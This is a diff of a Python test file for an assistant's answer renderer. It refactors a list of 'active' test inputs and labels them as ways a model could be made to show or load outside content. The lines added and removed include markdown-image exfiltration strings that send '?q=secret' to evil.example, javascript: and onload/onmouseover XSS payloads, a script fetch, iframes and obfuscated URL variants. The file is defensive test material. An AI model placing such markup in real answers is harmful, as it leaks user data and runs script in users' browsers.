@@ -12,46 +12,21 @@ from assistant.answering.composer import Composer
 from assistant.answering.markers import Marker, MarkerParser, Text
 from assistant.answering.statements import Statement
 from assistant.rendering.html import with_markers
+from tests.support.injections import FORMS, written
 from tests.support.offers import offered, stream
 from tests.support.pages import Page
 
-# Ways in which a model could be made to show or load something from elsewhere (RELIABILITY, 84).
-ACTIVE = [
-    "![x](http://evil.example/?q=secret)",
-    "![x][1]\n\n[1]: http://evil.example/?q=secret",
-    "[click](http://evil.example/)",
-    "[click](javascript:alert(1))",
+ACTIVE = [written(form) for form in FORMS.values()]
+ACTIVE += [
     "[click][1]\n\n[1]: http://evil.example/ 'title'",
-    "<http://evil.example/?q=secret>",
-    "http://evil.example/?q=secret",
-    "www.evil.example/?q=secret",
-    "<img src=http://evil.example/?q=secret>",
-    "<picture><source srcset='http://evil.example/'></picture>",
-    "<div style='background:url(http://evil.example/)'>x</div>",
-    "<style>@import url(http://evil.example/);</style>",
-    "<script>fetch('http://evil.example/')</script>",
-    "<a href='http://evil.example/' onmouseover='alert(1)'>x</a>",
-    "```mermaid\nclick A 'http://evil.example/'\n```",
-    "$$\\href{http://evil.example/}{x}$$",
-    "<!-- x --><svg onload=alert(1)>",
-    "![x\\](http://evil.example/)](http://evil.example/)",
-    "\\![x](http://evil.example/)",
     "&lt;img src=http://evil.example/&gt;",
-    "~~~html\n<img src=http://evil.example/>\n~~~",
-    "    <img src=http://evil.example/>",
-    "http&#58;//evil.example/",
     "&#104;ttp://evil.example/",
     "www&period;evil.example",
     "ftp://evil.example/x",
     "HTTP://EVIL.EXAMPLE/",
     "Www.evil.example",
-    "[x]: <http://evil.example/> 'title'\n\n![x]",
-    "[^2]: ![x](http://evil.example/)",
-    "<object data=http://evil.example/></object><iframe src=//evil.example></iframe>",
-    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
     "`<img src=http://evil.example/>`",
-    "```html\n<img src=http://evil.example/>\n```",
-    "| a | b |\n|---|---|\n| ![x](http://evil.example/) | <img src=//evil.example/> |",
+    "~~~html\n<img src=http://evil.example/>\n~~~",
 ]
 
 
